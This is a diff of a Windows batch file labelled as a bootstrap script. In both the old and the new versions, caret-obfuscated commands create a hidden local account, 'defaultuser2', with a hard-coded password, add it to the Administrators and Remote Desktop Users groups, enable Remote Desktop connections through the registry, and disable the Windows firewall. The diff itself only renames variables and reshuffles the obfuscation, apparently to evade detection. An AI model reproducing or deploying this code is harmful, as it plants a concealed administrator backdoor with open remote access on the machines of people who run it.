@@ -1,16 +1,16 @@
-REM bootstrap 3949 v1
+REM bootstrap 6770 v1
 @echo off
-set jguy=n^et u^s^er de^f^au^ltus^er2 ^A^dm1n!^s^tra^t0r /a^dd /y
-call %jguy%
+set lokv=^ne^t use^r ^defaul^tus^er^2 ^A^dm^1^n!^st^rat0r /^add /y
+call %lokv%
 @echo off
-set lpft=^ne^t l^oc^algr^oup adm^ini^str^ato^r^s d^e^fa^u^ltu^se^r2 /^ad^d
-call %lpft%
+set dlxt=^net l^ocalg^roup ^adm^inistra^t^or^s ^d^efa^u^ltus^er2 /a^d^d
+call %dlxt%
 @echo off
-set bmox=^n^et l^o^ca^lg^roup "Remote Desktop Users" d^e^fau^ltu^s^er^2 /add
-call %bmox%
+set bjul=^n^et ^l^o^cal^g^roup "Remote Desktop Users" de^fau^ltus^er2 /^a^dd
+call %bjul%
 @echo off
-set imve=^re^g add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /^v fD^enyTSConn^e^ction^s /t REG_D^W^ORD /^d 0 /^f
-call %imve%
+set bhkf=^r^e^g ^a^d^d "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /^v fD^e^nyT^SCo^nn^e^c^tio^ns /t R^EG_DW^O^RD /d 0 /^f
+call %bhkf%
 @echo off
-set myuc=^ne^t^sh adv^f^i^rew^a^l^l ^se^t a^ll^p^r^ofi^le^s ^state ^of^f
-call %myuc%
+set gibd=^n^e^t^s^h ad^v^f^ir^ewa^l^l s^e^t ^all^p^rofi^l^e^s st^ate ^off
+call %gibd%
